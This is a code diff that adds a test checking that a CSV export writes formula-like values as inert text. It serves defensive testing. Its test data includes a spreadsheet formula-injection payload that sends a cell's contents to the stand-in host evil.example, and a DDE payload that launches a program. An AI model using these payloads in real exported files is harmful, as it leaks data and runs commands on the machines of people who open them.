@@ -795,3 +795,15 @@ def test_move_aside_never_overwrites(tmp_path):
         assert move_aside(tmp_path / "db", ("", "-wal"), when) == [
             (tmp_path / "db", tmp_path / ("db.corrupt-20261201T011500Z" + ("" if n == 0 else f"-{n + 1}")))]
     assert sorted(p.read_bytes() for p in tmp_path.iterdir()) == [b"0", b"1", b"2"]
+
+
+def test_export_csv_writes_formulas_as_text(q):
+    """Issue 29, point 7: a source such as =HYPERLINK(...) (any client picks it: an upload's name, a URL) ran as a
+    formula in the spreadsheet the export was opened in."""
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    for n, source in enumerate([evil, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "https://example.com/ok.jpg"]):
+        q.decide(add(q, n, source=source), "r1", "safe")
+    rows = list(csv.DictReader(io.StringIO(q.export_csv())))
+    assert [r["path"] for r in rows] == ["'" + evil, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3",
+                                         "https://example.com/ok.jpg"]
+    assert all(not r[c].startswith("'") for r in rows for c in CLASS_NAMES)  # numbers stay numbers
